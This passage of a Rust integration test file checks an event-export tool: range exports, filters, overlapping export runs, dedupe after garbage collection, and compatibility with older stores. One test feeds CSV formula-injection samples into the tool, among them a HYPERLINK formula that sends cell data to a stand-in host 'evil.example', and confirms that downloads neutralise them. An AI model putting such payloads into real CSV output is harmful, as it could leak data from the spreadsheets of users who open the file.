    let out_path = out.to_str().unwrap();
    // Minutes 600 .. 2640 of the archive, with `extra` arguments.
    let range = |extra: &[&str]| {
        let mut args = vec![
            "export",
            "--from",
            "2024-03-01T10:00:00Z",
            "--to",
            "2024-03-02T20:00:00Z",
            "--source",
            "archive",
        ];
        args.extend_from_slice(extra);
        env.command(&args).output().unwrap()
    };
    let run = range(&[
        "--format",
        "ndjson",
        "--compression",
        "gzip",
        "--out",
        out_path,
    ]);
    let stderr = String::from_utf8_lossy(&run.stderr);
    assert!(run.status.success(), "{stderr}");
    // minutes 600 .. 2640 (exclusive): 2,040 events, 500 of them in both places.
    assert!(
        stderr.contains("exported 2040 events") && stderr.contains("500 found in both"),
        "{stderr}"
    );
    let text = support::decode("range.ndjson.gz", &std::fs::read(&out).unwrap());
    let ids: Vec<String> = text
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).unwrap()["EVENT_ID"]
                .as_str()
                .unwrap()
                .to_string()
        })
        .collect();
    let expected: Vec<String> = (600..2_640).map(|i| format!("ev-{i:05}")).collect();
    assert_eq!(ids, expected);
    // Filters: a tenant that has no events, and one that has them all.
    for (filter, expected) in [
        ("organization=globex", 0),
        ("organization=acme,action=user_login", 680),
    ] {
        let out = range(&["--filter", filter, "--out", "-"]);
        assert!(out.status.success());
        let rows = support::records("x.csv", &out.stdout).len();
        assert_eq!(rows, expected, "{filter}");
    }
    let bad = env
        .command(&[
            "export",
            "--from",
            "2024-03-01",
            "--to",
            "2024-03-02",
            "--filter",
            "tenant=x",
            "--out",
            "-",
        ])
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&bad.stderr)
        .contains("unknown key `tenant`; known: action, actor, organization"));
    let first: Value = serde_json::from_str(text.lines().next().unwrap()).unwrap();
    assert_eq!(first["APP_ID"], json!("app,0"));
    assert_eq!(first["EVENT_TIME"], json!("2024-03-01 10:00:00.000"));
    assert_eq!(first["EVENT_DATE"], json!("2024-03-01"));
}

/// Issue 11, item 8: a CSV download opened in a spreadsheet ran `=HYPERLINK(...)` as a
/// formula. Downloads are guarded by default; archives stay byte-exact unless asked.
#[test]
fn csv_downloads_are_guarded_against_formulas_and_archives_stay_exact() {
    let env = Env::new(config(json!([
        {"name": "archive", "type": "pv", "root": "archive", "format": "csv"},
        {"name": "sheets", "type": "pv", "root": "sheets", "format": "csv",
         "format_options": {"formula_guard": true}},
    ])));
    let evil = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\tcmd",
        "\rx",
    ];
    let lines: Vec<Value> = evil
        .iter()
        .enumerate()
        .map(|(i, name)| {
            let mut l = line(i as u64);
            l["customerName"] = json!(name);
            l
        })
        .collect();
    env.ingest(&lines);
    env.ok(&["export", "--once"]);
    let base = line(0)["createdAt"].as_i64().unwrap();
    let (from, to) = (rfc3339(base), rfc3339(base + 10_000));
    let download = |extra: &[&str]| {
        let mut args = vec!["export", "--from", &from, "--to", &to, "--out", "-"];
        args.extend_from_slice(extra);
        let out = env.run(&args);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        support::records("d.csv", &out.stdout)
    };
    let customer = |records: &[Value]| -> Vec<String> {
        records
            .iter()
            .filter(|r| !support::is_own_event(r))
            .map(|r| r["customerName"].as_str().unwrap().to_string())
            .collect()
    };
    let quoted: Vec<String> = evil.iter().map(|e| format!("'{e}")).collect();
    assert_eq!(
        customer(&download(&[])),
        quoted,
        "the default download is guarded"
    );
    assert_eq!(
        customer(&download(&["--raw-csv"])),
        evil,
        "--raw-csv writes cells as stored"
    );
    let out = env.run(&[
        "export",
        "--from",
        &from,
        "--to",
        &to,
        "--out",
        "-",
        "--format",
        "ndjson",
        "--raw-csv",
    ]);
    assert!(String::from_utf8_lossy(&out.stderr).contains("csv format only"));
    // The archive destination is exact; the one that asked for the guard is guarded.
    for (root, expected) in [
        ("archive", evil.map(String::from).to_vec()),
        ("sheets", quoted.clone()),
    ] {
        let files = support::files_under(&env.path(root));
        let mut records = Vec::new();
        for f in &files {
            records.extend(support::records(
                &f.to_string_lossy(),
                &std::fs::read(f).unwrap(),
            ));
        }
        assert_eq!(customer(&records), expected, "{root}");
    }
}

/// Issue 11, item 2: two `export --once` on one store at the same time (a cron job and a
/// manual run) both exited 1 with internal messages, although every event landed once.
/// Now each destination is exported under a lease in the store: the later run leaves it to
/// the earlier one, says so, and neither reports a failure that did not happen.
#[test]
fn overlapping_exports_of_one_store_neither_fail_nor_duplicate() {
    let env = Env::new(config(json!([
        {"name": "d1", "type": "pv", "root": "d1", "max_events": 500},
        {"name": "d2", "type": "pv", "root": "d2", "format": "csv", "max_events": 700},
    ])));
    let lines: Vec<Value> = (0..30_000).map(line).collect();
    env.ingest(&lines);
    let runs: Vec<_> = (0..3)
        .map(|_| {
            env.command(&["export", "--once"])
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    let mut skipped = 0;
    for run in runs {
        let out = run.wait_with_output().unwrap();
        let (stdout, stderr) = (
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr),
        );
        assert!(out.status.success(), "{stdout}\n{stderr}");
        assert!(
            !stdout.contains("FAILED") && !stderr.contains("ERROR"),
            "{stdout}\n{stderr}"
        );
        skipped += stdout
            .matches("left to the other export: another export of it is running (pid ")
            .count();
    }
    assert!(skipped >= 1, "the three runs did not overlap at all");
    for root in ["d1", "d2"] {
        let records = read_back(&env.path(root));
        assert_eq!(records.len(), 30_000, "{root}: each event once");
    }
    let status = env.ok(&["status"]);
    assert!(
        status.contains("d1: cursor ") && status.contains("backlog 0 events"),
        "{status}"
    );
}

/// Issue 11, item 7: an event with a producer's id that arrived again after GC deleted its
/// first copy was stored and exported a second time. The store now remembers collected ids
/// for a window (7 days by default).
#[test]
fn a_replay_after_gc_is_recognised_and_not_exported_again() {
    let env = Env::new(config(
        json!([{"name": "local", "type": "pv", "root": "out"}]),
    ));
    let with_ids: Vec<Value> = (0..5)
        .map(|i| {
            let mut l = line(i);
            l["id"] = json!(format!("outbox-{i}"));
            l
        })
        .collect();
    assert_eq!(
        env.ingest(&with_ids),
        "ingested 5 events (0 already stored, ignored)\n"
    );
    env.ok(&["export", "--once"]);
    assert!(env.ok(&["gc", "--once"]).contains("deleted 5"));
    assert_eq!(env.events_held(), 0);
    // The producer's outbox replays all five after an outage, with one new event.
    let mut replay = with_ids.clone();
    let mut new = line(5);
    new["id"] = json!("outbox-5");
    replay.push(new);
    assert_eq!(
        env.ingest(&replay),
        "ingested 1 events (5 already stored, ignored)\n"
    );
    env.ok(&["export", "--once"]);
    let records = read_back(&env.path("out"));
    assert_eq!(records.len(), 6, "each event once across the files");

    // With the window at 0 days the store remembers nothing, as documented.
    // (Env writes its own `store`; the option is added to the written config.)
    let forgetful = Env::new(config(
        json!([{"name": "local", "type": "pv", "root": "out"}]),
    ));
    let mut written: Value =
        serde_json::from_slice(&std::fs::read(&forgetful.config).unwrap()).unwrap();
    written["store"]["dedupe_window_days"] = json!(0);
    std::fs::write(&forgetful.config, serde_json::to_vec(&written).unwrap()).unwrap();
    forgetful.ingest(&with_ids[..1]);
    forgetful.ok(&["export", "--once"]);
    forgetful.ok(&["gc", "--once"]);
    assert_eq!(
        forgetful.ingest(&with_ids[..1]),
        "ingested 1 events (0 already stored, ignored)\n"
    );
}

/// The store and archive left by the binary of `0d2d2a6`, the last before issue 16 changed
/// how events are stored (each event as JSON text then), in a new temp dir: 100 events, 60
/// exported to each destination, 40 waiting (`fixtures/old-store/make.sh` made them).
fn old_store() -> (Env, PathBuf) {
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/old-store");
    let text = std::fs::read_to_string(fixture.join("config.json")).unwrap();
    let mut config: Value = serde_json::from_str(&text).unwrap();
    config["manifests"]["signing_key_file"] = json!(fixture.join("test-only-signing-key.pem"));
    for d in config["destinations"].as_array_mut().unwrap() {
        d["root"] = json!(format!("export/{}", d["name"].as_str().unwrap()));
    }
    let env = Env::new(config);
    copy_tree(&fixture.join("store"), &env.path("db"));
    copy_tree(&fixture.join("exported"), &env.path("export"));
    let status = env.ok(&["status"]);
    for name in OLD_STORE_DESTINATIONS {
        assert!(
            status.contains(&format!("{name}: cursor 60, backlog 40 events")),
            "{status}"
        );
    }
    (env, fixture)
}

const OLD_STORE_DESTINATIONS: [&str; 2] = ["ndjson", "csv"];

/// Exports the old store's waiting events and checks that they land in the files the old
/// binary wrote for them, under the same keys, byte for byte. Returns those files' paths
/// under the export root.
fn export_old_backlog(env: &Env, fixture: &Path) -> Vec<PathBuf> {
    env.ok(&["export", "--once"]);
    let expected = fixture.join("expected/backlog");
    let wanted = relative_files(&expected);
    assert_eq!(new_data_files(env, &fixture.join("exported")), wanted);
    for file in &wanted {
        assert!(
            std::fs::read(env.path("export").join(file)).unwrap()
                == std::fs::read(expected.join(file)).unwrap(),
            "{} differs from the old binary's",
            file.display()
        );
    }
    wanted
}

/// The exported files (not manifests) under `env`'s export root that `before` does not hold.
fn new_data_files(env: &Env, before: &Path) -> Vec<PathBuf> {
    relative_files(&env.path("export"))
        .into_iter()
        .filter(|f| !f.components().any(|c| c.as_os_str() == "_manifests"))
        .filter(|f| !before.join(f).exists())
        .collect()
}

/// The files under `root`, relative to it, sorted.
fn relative_files(root: &Path) -> Vec<PathBuf> {
    files_under(root)
        .into_iter()
        .map(|f| f.strip_prefix(root).unwrap().to_path_buf())
        .collect()
}

/// Copies the files under `from` to the same places under `to`.
fn copy_tree(from: &Path, to: &Path) {
    for file in files_under(from) {
        let target = to.join(file.strip_prefix(from).unwrap());
        std::fs::create_dir_all(target.parent().unwrap()).unwrap();
        std::fs::copy(&file, &target).unwrap();
    }
}

/// An old store's backlog goes out as the old binary wrote it; the same events stored again
/// by this binary, in its own form, go out to the same bytes under their new keys.
#[test]
fn an_old_store_exports_old_and_new_events_to_the_old_binarys_bytes() {
    let (env, fixture) = old_store();
    let old_files = export_old_backlog(&env, &fixture);
    let before = env.path("before-again");
    copy_tree(&env.path("export"), &before);
    env.ok(&["ingest", fixture.join("events-2.ndjson").to_str().unwrap()]);
    env.ok(&["export", "--once"]);
    let again = new_data_files(&env, &before);
    assert_eq!(again.len(), old_files.len(), "{again:?}");
    for (file, old) in again.iter().zip(&old_files) {
        let name = file.file_name().unwrap().to_string_lossy();
        assert!(name.starts_with("00000000000000000101-"), "{file:?}");
        assert!(
            std::fs::read(env.path("export").join(file)).unwrap()
                == std::fs::read(fixture.join("expected/backlog").join(old)).unwrap(),
            "{} differs from the old binary's {}",
            file.display(),
            old.display()
        );
    }
}

/// An old archive continued by this binary verifies as one chain, and a range export of an
/// old store, alone or with that archive, gives the old binary's output byte for byte.
#[test]
fn an_old_store_and_its_archive_verify_and_range_export_as_before() {
    let (env, fixture) = old_store();
    export_old_backlog(&env, &fixture);
    let public_key = fixture.join("test-only-public-key.pem");
    for name in OLD_STORE_DESTINATIONS {
        let root = env.path(&format!("export/{name}"));
        let out = env.ok(&[
            "verify-archive",
            root.to_str().unwrap(),
            "--public-key",
            public_key.to_str().unwrap(),
        ]);
        assert!(out.contains("2 manifests"), "{out}");
    }
    let old_range = std::fs::read(fixture.join("expected/range.ndjson")).unwrap();
    for source in [&[][..], &["--source", "ndjson"][..]] {
        let out = env.path("range.ndjson");
        let mut args = vec![
            "export",
            "--from",
            "2024-05-01T00:00:00Z",
            "--to",
            "2024-05-02T00:00:00Z",
            "--format",
            "ndjson",
            "--out",
            out.to_str().unwrap(),
        ];
        args.extend_from_slice(source);
        env.ok(&args);
        assert!(std::fs::read(&out).unwrap() == old_range, "{source:?}");
    }
    env.ok(&["verify"]);
}
